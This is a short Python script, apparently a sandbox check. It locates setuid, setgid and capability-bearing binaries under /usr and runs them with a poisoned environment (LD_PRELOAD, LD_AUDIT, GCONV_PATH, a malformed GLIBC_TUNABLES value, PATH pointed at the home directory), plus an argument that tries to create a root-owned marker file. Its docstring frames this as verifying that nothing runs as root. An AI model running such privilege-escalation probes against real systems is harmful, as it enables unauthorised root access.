"""Idea: programs that run as root are found and given libraries, paths and settings of ours.
Must: run as the student, if at all; nothing of ours is run as root.
"""

import os
import stat
import subprocess
import time

END, found = time.monotonic() + 2, []
for folder, folders, names in os.walk("/usr"):
    if time.monotonic() > END or "site-packages" in folder:
        folders.clear()
        continue
    for name in names:
        path = os.path.join(folder, name)
        try:
            facts = os.lstat(path)
            if stat.S_ISREG(facts.st_mode) and facts.st_mode & 0o6000:
                found.append(path)
            elif os.path.basename(folder) in ("bin", "sbin", "libexec"):
                found += [path] if "security.capability" in os.listxattr(path) else []
        except OSError:
            pass
home = os.path.expanduser("~")
hostile = {"LD_PRELOAD": f"{home}/{MARK}.so", "LD_LIBRARY_PATH": home, "PATH": home, "SHELL": home}
hostile |= {"GCONV_PATH": home, "CHARSET": MARK, "LD_AUDIT": f"{home}/{MARK}.so", "MARK": MARK}
hostile |= {"GLIBC_TUNABLES": f"glibc.malloc.mxfast=glibc.malloc.mxfast={MARK}", "TERMINFO": home}
for path in found[:40]:
    for arguments in ([], ["-c", f"touch /tmp/{MARK}-root"], ["--help"], ["-"], [f"/tmp/{MARK}"]):
        if time.monotonic() > END + 2:
            break
        try:
            subprocess.run(
                [path, *arguments],
                env=hostile, stdin=subprocess.DEVNULL, capture_output=True, timeout=0.3,
            )  # fmt: skip
        except (OSError, subprocess.SubprocessError):
            pass
